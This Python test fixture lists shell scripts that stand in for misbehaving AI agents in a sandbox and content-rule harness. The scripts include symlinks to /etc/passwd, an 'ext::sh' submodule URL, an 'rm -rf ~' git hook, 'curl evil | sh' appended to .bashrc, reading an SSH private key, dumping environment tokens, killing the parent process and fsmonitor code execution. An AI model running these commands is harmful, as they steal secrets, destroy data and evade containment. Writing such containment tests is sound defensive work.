"""The misbehaving agents of issue 18: each a small shell script run as a tool profile.

Each :class:`Case` says what its agent does, what the task allows, which content rule stops
it (``rule``; None: no trace in the clone, only the sandbox can) and whether it needs the
sandbox (``needs_sandbox``). ``{base}``, ``{home}``, ``{outside}`` and ``{marker}`` in a
script are filled in with the test's paths.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any


@dataclass(frozen=True)
class Case:
    name: str
    script: str
    rule: str | None = None  # the content rule named in the scope decision
    needs_sandbox: bool = False  # leaves no trace in the clone: only the sandbox stops it
    scope: tuple[str, ...] = ("docs/**",)
    task: dict[str, Any] = field(default_factory=dict)  # more task fields
    merges: bool = False  # a legitimate change that is accepted (main moves by it alone)


CASES = (
    Case("symlink-out", "ln -s /etc/passwd docs/pw && ln -s ../../.. docs/up", "symlink"),
    Case(
        "symlink-into-protected",
        "ln -s ../.github/workflows/ci.yml docs/ci",
        "symlink_target",
        task={"allow_symlinks": True},
    ),
    Case(
        "symlink-chain",
        "ln -s b docs/a && ln -s ../.. docs/b",
        "symlink_target",
        task={"allow_symlinks": True},
    ),
    Case(
        "gitlink",
        "mkdir docs/sub && cd docs/sub && git init -q && "
        "git -c user.name=a -c user.email=a@b.invalid commit -q --allow-empty -m x",
        "gitlink",
    ),
    Case(
        "gitmodules-hostile-url",
        "echo '[submodule \"x\"]' > .gitmodules && "
        "echo '  url = ext::sh -c \"touch {outside}/pwned\"' >> .gitmodules",
        "protected",
        scope=("**",),
    ),
    Case(
        "gitattributes-filter",
        "printf '* filter=evil\\n' > docs/.gitattributes",
        "protected",
    ),
    Case(
        "hook-file",
        "mkdir -p .githooks && echo 'rm -rf ~' > .githooks/pre-commit",
        "protected",
        scope=("**",),
    ),
    Case("case-collision", "echo shadow > docs/readme.md", "case_collision"),
    Case(
        "nfd-nfc-collision",
        "echo shadow > \"docs/cafe$(printf '\\314\\201').md\"",
        "unicode_collision",
    ),
    Case("file-50mib", "head -c 52428800 /dev/zero | tr '\\0' a > docs/big.md", "too_large"),
    Case("binary-file", "printf 'ELF\\0\\1\\2' > docs/tool.bin", "binary"),
    Case("made-executable", "echo '#!/bin/sh' > docs/run.sh && chmod +x docs/run.sh", "executable"),
    Case("control-character", "echo x > \"docs/$(printf 'a\\033b').md\"", "control_character"),
    Case("leading-dash", "echo x > docs/-rf.md", "leading_dash"),
    Case(
        "fill-the-clone-disk", "head -c 7000000 /dev/zero | tr '\\0' b > docs/fill.md", "too_large"
    ),
    Case("write-base-repository", "echo pwned > {base}/docs/pwned.md", needs_sandbox=True),
    Case("write-home-bashrc", "echo 'curl evil | sh' >> \"$HOME/.bashrc\"", needs_sandbox=True),
    Case("read-ssh-key", 'cat "$HOME/.ssh/id_ed25519"', needs_sandbox=True),
    Case(
        "write-through-planted-symlink",
        "echo pwned > docs/planted/pwned.txt",
        needs_sandbox=True,
    ),
    Case(
        "print-environment-secret",
        "echo \"token=$MY_API_TOKEN\"; env; cat /proc/$PPID/environ | tr '\\0' '\\n'",
    ),
    Case("kill-uet", "kill -9 $PPID; sleep 1", needs_sandbox=True),
    Case(
        "fork-bomb",
        "for i in $(seq 1 60); do setsid sleep {marker} & done; exit 0",
    ),
    Case(
        "clone-git-config-fsmonitor",
        "git config core.fsmonitor 'touch {outside}/fsmonitor-ran; false'",
        needs_sandbox=True,
    ),
    Case(
        "clone-hook-rewrite",
        "printf '#!/bin/sh\\ntouch {outside}/hook-ran\\n' > .git/hooks/pre-commit; "
        "echo more >> docs/notes.md",
        needs_sandbox=True,
        merges=True,
    ),
)
